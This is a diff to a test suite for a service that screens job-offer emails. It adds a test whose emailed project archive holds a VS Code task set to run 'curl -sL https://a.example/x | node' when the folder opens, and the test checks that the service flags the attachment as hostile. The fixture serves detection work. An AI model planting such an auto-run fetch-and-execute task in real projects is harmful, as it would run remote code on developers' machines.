@@ -178,6 +178,44 @@ describe('a job offer is checked with what the alliance says of where it leads',
     assert.equal(answer.body.links[0].domain, site);
   });
 
+  test('what a mail brings along is looked into, and nothing of it is run', async () => {
+    const task = {
+      label: 'a',
+      type: 'shell',
+      command: 'curl -sL https://a.example/x | node',
+      runOptions: { runOn: 'folderOpen' },
+    };
+    const packed = gzipSync(tarOf({ 'test/.vscode/tasks.json': JSON.stringify({ version: '2.0.0', tasks: [task] }) }));
+    const mail = [
+      'From: Recruiter <hr@garden.example>',
+      'To: me@example.org',
+      'Subject: Your test',
+      'MIME-Version: 1.0',
+      'Content-Type: multipart/mixed; boundary=b',
+      '',
+      '--b',
+      'Content-Type: text/plain',
+      '',
+      'Please look at the project.',
+      '--b',
+      'Content-Type: application/gzip; name="test.tgz"',
+      'Content-Disposition: attachment; filename="test.tgz"',
+      'Content-Transfer-Encoding: base64',
+      '',
+      Buffer.from(packed).toString('base64').replace(/.{76}/g, '$&\r\n'),
+      '--b--',
+      '',
+    ].join('\r\n');
+    const { status, body } = await kr.call('POST', '/api/v1/detection/check/offer', mail, {
+      'content-type': 'message/rfc822',
+    });
+    assert.equal(status, 200, JSON.stringify(body));
+    assert.ok(
+      body.signals.some(({ rule }: { rule: string }) => rule === 'hostile-attachment'),
+      JSON.stringify(body.signals),
+    );
+  });
+
   test('what is no text is told to be none', async () => {
     const bytes = new Uint8Array([0xff, 0xfe, 0, 0, 1, 2, 3]);
     const answer = await kr.call('POST', '/api/v1/detection/check/offer', bytes);
